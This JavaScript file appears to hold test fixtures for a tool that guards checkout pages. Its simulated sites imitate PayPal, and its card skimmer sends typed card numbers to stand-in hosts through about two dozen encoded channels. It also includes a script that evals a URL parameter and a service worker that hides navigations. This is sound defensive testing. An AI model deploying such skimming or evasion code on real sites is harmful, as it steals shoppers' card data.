// Pages for the scenarios of hold, note and refusal. The hosts imitate a protected name, so that their tills are danger by evidence alone.

const page = (title, body, head = '') => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><link rel="icon" href="data:,"><title>${title}</title>${head}</head><body>${body}</body></html>
`;

/** Everything a till can do to send a payment; `handled` counts what the page's own handlers saw. */
const TILL = `
globalThis.handled = [];
const form = document.querySelector('#pay');
form.addEventListener('submit', (event) => { handled.push(['submit', event.submitter?.id ?? null, event.defaultPrevented]); });
globalThis.ways = {
  script: () => form.requestSubmit(document.querySelector('#send')),
  'form.submit()': () => form.submit(),
  fetch: (to) => fetch(to + '/take', { method: 'POST', mode: 'no-cors', body: 'x' }).then(() => 'sent', () => 'network error'),
  xhr: (to) => new Promise((done) => { const x = new XMLHttpRequest(); x.open('POST', to + '/take'); x.onload = () => done('sent'); x.onerror = () => done('network error'); x.send('x'); }),
  beacon: (to) => String(navigator.sendBeacon(to + '/take', 'x')),
  image: (to) => new Promise((done) => { const i = new Image(); i.onload = () => done('sent'); i.onerror = () => done('error'); i.src = to + '/take.png?d=x'; }),
  websocket: (to) => new Promise((done) => { const s = new WebSocket(to.replace('http', 'ws') + '/take'); s.onopen = () => done('open'); s.onerror = () => done('error'); }),
  'new window': () => { form.target = '_blank'; form.submit(); form.target = ''; },
  'into a frame': () => { const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f); form.target = 'sink'; form.submit(); form.target = ''; },
  'script navigation': (to) => { location.href = to + '/take?d=x'; },
};`;

const CARD = `<form id="pay" method="post" action="/take"><h2>Pay by card</h2>
<label>Name on card <input id="holder" name="holder" autocomplete="cc-name" required></label><label>Card number <input id="pan" name="cardnumber" inputmode="numeric" autocomplete="cc-number"></label>
<label>Expiry date <input name="expiry" autocomplete="cc-exp"></label><label>Security code <input id="cvc" name="cvc" autocomplete="cc-csc"></label>
<input type="hidden" name="order" value="17"><button id="send" type="submit" name="step" value="pay">Pay now</button></form>`;

/** A transfer and gift cards are all there is: `caution`, and money that does not come back. */
const TRANSFER = `<form id="pay" method="post" action="/take"><h2>Payment method</h2>
<label><input type="radio" name="payment_method" value="bank_transfer" checked> Bank transfer</label>
<label><input type="radio" name="payment_method" value="gift_card"> Gift card</label>
<label>Your name <input id="holder" name="holder" required></label><button id="send" type="submit" name="step" value="pay">Place order</button></form>`;

const ASIDE = `<form id="search" role="search" action="/find"><input type="search" name="q"><button id="find">Search</button></form>
<form id="coupon" method="post" action="/find"><label>Voucher <input name="coupon"></label><button id="redeem">Redeem</button></form>
<form id="news" method="post" action="/find"><label>Newsletter <input type="email" name="email"></label><button id="join">Subscribe</button></form>`;

/** Runs what its address says before anything else. */
const HOSTILE = `<script>{ const code = new URLSearchParams(location.search).get('attack'); if (code !== null) (0, eval)(code); }</script>`;

/** Reloaded with this mark, it sends at once. */
const AT_ONCE = `<script>if (sessionStorage.getItem('at-once')) { for (let i = 0; i < 20; i += 1) setTimeout(() => { void fetch('/take?again'); navigator.sendBeacon('/take'); }, i * 20); }</script>`;

const till = (form, script = TILL) => page('Checkout', `${HOSTILE}<main><h1>Checkout</h1>${form}</main><script>${script}</script>${AT_ONCE}`);
const site = (html) => (url) => (url.pathname.startsWith('/checkout') ? html : url.pathname === '/take' || url.pathname === '/find' ? page('Thank you', '<h1>Thank you for your order</h1>') : null);

const LISTED_SHOP = 'https://listed-till.test/checkout';
const CROSSROADS = `<a id="link" href="${LISTED_SHOP}">there</a><form action="${LISTED_SHOP}"><button id="get">get</button></form>
<form action="${LISTED_SHOP}" method="post"><input type="hidden" name="n" value="1"><button id="post">post</button></form><button id="open" onclick="window.open('${LISTED_SHOP}')">open</button>`;
/** Answers every navigation by itself: no request for a rule of the browser's to see. */
const OFFLINE_WORKER = `addEventListener('install', () => skipWaiting()); addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('fetch', (event) => { if (event.request.mode === 'navigate') event.respondWith(new Response('<title>Checkout</title><input autocomplete="cc-number">', { headers: { 'content-type': 'text/html' } })); });`;

/** A card form that is not submitted, and every way a script has of carrying what was typed in it away. */
const SKIMMER = `
const number = () => document.querySelector('#pan').value;
const hex = (text) => [...text].map((each) => each.charCodeAt(0).toString(16)).join('');
const post = (to, body, more = {}) => fetch(to, { method: 'POST', mode: 'no-cors', body, ...more }).catch(() => {});
globalThis.leaks = {
  'fetch, raw': (to) => post(to, 'n=' + number()),
  'fetch, JSON': (to) => post(to, JSON.stringify({ card: { number: number() } })),
  'fetch, base64': (to) => post(to, 'd=' + btoa(number())),
  'fetch, hex': (to) => post(to, 'd=' + hex(number())),
  'fetch, reversed': (to) => post(to, 'd=' + [...number()].reverse().join('')),
  'fetch, URL-encoded': (to) => post(to, new URLSearchParams({ n: number().replace(/(.{4})/g, '$1 ') })),
  'fetch, split over fields': (to) => post(to, number().match(/.{4}/g).map((part, index) => 'n' + index + '=' + part).join('&')),
  'fetch, FormData': (to) => { const data = new FormData(); data.set('n', number()); return post(to, data); },
  'fetch, bytes': (to) => post(to, new TextEncoder().encode(number())),
  'fetch, keepalive': (to) => post(to, 'n=' + number(), { keepalive: true }),
  'fetch, Blob': (to) => post(to, new Blob(['n=' + number()])),
  'fetch, GET': (to) => fetch(to + '?n=' + number(), { mode: 'no-cors' }).catch(() => {}),
  'XHR': (to) => { const x = new XMLHttpRequest(); x.open('POST', to); x.send('n=' + number()); },
  'beacon': (to) => { navigator.sendBeacon(to, 'n=' + number()); },
  'image': (to) => { new Image().src = to + '?n=' + number(); },
  'script element': (to) => { document.head.append(Object.assign(document.createElement('script'), { src: to + '?n=' + number() })); },
  'style sheet': (to) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: to + '?n=' + number() })); },
  'frame': (to) => { document.body.append(Object.assign(document.createElement('iframe'), { src: to + '?n=' + number() })); },
  'form into a frame': (to) => { document.body.insertAdjacentHTML('beforeend', '<iframe name="sink"></iframe><form id="out" method="post" target="sink" action="' + to + '"><input name="n" value="' + number() + '"></form>'); document.querySelector('#out').submit(); },
  'worker': (to) => { new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ', { method: "POST", mode: "no-cors", body: "n=' + number() + '" })']))); },
  'srcdoc frame': (to) => { const frame = document.createElement('iframe'); frame.srcdoc = '<script>fetch(' + JSON.stringify(to) + ', { method: "POST", mode: "no-cors", body: "n=' + number() + '" })<' + '/script>'; document.body.append(frame); },
  'scrambled': (to) => post(to, 'd=' + [...number()].map((each) => String.fromCharCode(each.charCodeAt(0) ^ 0x55)).join('') + 'xxxxxxxxxxxx'),
  'WebSocket': (to) => { const s = new WebSocket(to.replace('http', 'ws')); s.onopen = () => s.send(number()); },
};
globalThis.honest = {
  'hosted fields: the provider is told the number': () => post('https://api.stripe.com/v1/tokens', 'card[number]=' + number()),
  'direct post: the number goes to the provider': () => post('https://api.stripe.com/v1/payment_methods', JSON.stringify({ card: { number: number() } })),
  'the shop is told the number': () => post('/take', 'n=' + number()),
  'the shop’s own payment host is told the number': () => post('https://pay.honest-till.test/take', 'n=' + number()),
  'tokenisation: the shop is told a token': () => post('/take', 'token=tok_1Pq&last4=' + number().slice(-4)),
  'analytics that was there before': () => post('https://analytics-seen.test/collect?v=2&en=add_payment_info', 'en=add_payment_info&cid=1234567890.1731000000'),
  'analytics by beacon': () => { navigator.sendBeacon('https://analytics-seen.test/collect', JSON.stringify({ event: 'add_payment_info', ts: 1731000000123 })); },
  'analytics by picture': () => { new Image().src = 'https://analytics-seen.test/p.gif?ev=pay&cid=1234567890123'; },
  'a tag from a new subdomain of what was there': () => post('https://eu.analytics-seen.test/collect', 'ev=pay&cid=1234567890123'),
  'a new picture from a stranger': () => { new Image().src = 'https://pictures-new.test/badge.png?v=3'; },
  'a new script from a stranger': () => { document.head.append(Object.assign(document.createElement('script'), { src: 'https://pictures-new.test/widget.js?id=42' })); },
  'a look-up by issuer, first eight digits': () => fetch('https://lookup-new.test/bin?n=' + number().slice(0, 8), { mode: 'no-cors' }).catch(() => {}),
  'address look-up by GET': () => fetch('https://lookup-new.test/address?q=Hauptstr.%2017%2010115', { mode: 'no-cors' }).catch(() => {}),
  'address look-up by POST of a service that was there': () => post('https://lookup-seen.test/address', JSON.stringify({ q: 'Hauptstr. 17', session: '550e8400e29b41d4a716446655440000' })),
  'fraud scoring that was there': () => post('https://fraud-seen.test/score', JSON.stringify({ device: '8d969eef6ecad3c29a3a629280e686cf', bin: number().slice(0, 6) })),
  'fraud scoring of a provider': () => post('https://m.stripe.com/6', 'ey' + btoa(JSON.stringify({ muid: 'a'.repeat(36) }))),
  '3-D Secure: the bank’s frame': () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://acs-bank.test/challenge?id=3f2a' })); },
  'a wallet’s script': () => { document.head.append(Object.assign(document.createElement('script'), { src: 'https://pay.google.com/gp/p/js/pay.js' })); },
  'a chat that was there, over a socket': () => { new WebSocket('wss://chat-seen.test/live'); },
  'error report to a service that was there': () => post('https://errors-seen.test/report', JSON.stringify({ message: 'TypeError', at: 1731000000123, line: 4000 })),
  'a short ping to a stranger': () => post('https://pictures-new.test/p', 'ok'),
};`;
const SEEN = ['analytics-seen', 'lookup-seen', 'fraud-seen', 'chat-seen', 'errors-seen'];
const skimmed = page('Checkout', `<main><h1>Checkout</h1>${CARD}</main>${SEEN.map((name) => `<script src="https://${name}.test/tag.js"></script>`).join('')}<script>${SKIMMER}</script>`);
const STRANGERS = [...SEEN.map((name) => `${name}.test`), 'eu.analytics-seen.test', 'pictures-new.test', 'lookup-new.test', 'acs-bank.test'];

/** Its document never ends: a little more of it comes as long as somebody listens. */
function endless(request, response) {
  if (!request.url.startsWith('/checkout')) {
    response.writeHead(200, { 'content-type': 'text/plain' }).end();
    return;
  }
  const [start] = till(CARD).split('</body>');
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).write(start);
  const more = setInterval(() => response.write('<!-- more -->'), 200);
  response.on('close', () => clearInterval(more));
}

/** Pages that a browser may keep for going back to them: nothing forbids storing them. */
const KEPT = {
  '/paper': page('The bridge at low water', '<p>On Thursdays the ferry stops early.</p><a id="on" href="/checkout">on</a>'),
  '/checkout': page('Checkout', `<main><h1>Checkout</h1>${CARD.replace('action="/take"', 'action="https://collector-of-cards.test/take"')}<a id="on" href="/paper">on</a></main>`),
};

/** @type {Record<string, import('../../../demo/server.mjs').Site>} */
export const ACTING = {
  'secure-paypa1.test': { respond: endless },
  'paypa1-checkout.test': { keepsForms: true, page: site(till(CARD + ASIDE)) },
  'transfer-only.test': { keepsForms: true, page: site(till(TRANSFER + ASIDE)) },
  'quiet-till.test': { page: site(page('Checkout', `<main><h1>Checkout</h1>${CARD.replace('action="/take"', 'action="https://collector-of-cards.test/take"')}</main>`, HOSTILE)) },
  'honest-till.test': { page: site(skimmed) },
  // The same, but its form posts to somebody else: caution.
  'careless-till.test': { page: site(skimmed.replace('action="/take"', 'action="https://parcel-desk.test/take"')) },
  'pay.honest-till.test': { page: () => page('Paid', '') },
  ...Object.fromEntries(STRANGERS.map((host) => [host, { page: () => page('', '') }])),
  'crossroads.test': {
    respond: (request, response) => {
      if (request.url === '/redirect') response.writeHead(302, { location: LISTED_SHOP }).end();
      else response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(request.url === '/refresh' ? page('On', '', `<meta http-equiv="refresh" content="0;url=${LISTED_SHOP}">`) : page('Crossroads', CROSSROADS));
    },
  },
  'offline-till.test': {
    respond: (request, response) => {
      const script = request.url === '/worker.js';
      response.writeHead(200, { 'content-type': script ? 'text/javascript' : 'text/html; charset=utf-8' }).end(script ? OFFLINE_WORKER : page('Checkout', `${CARD}<script>navigator.serviceWorker.register('/worker.js')</script>`));
    },
  },
  'kept-till.test': {
    respond: (request, response) => {
      const html = KEPT[request.url];
      response.writeHead(html === undefined ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' }).end(html);
    },
  },
  'collector-of-cards.test': { page: () => page('Thank you', '<h1>Thanks</h1>') },
};
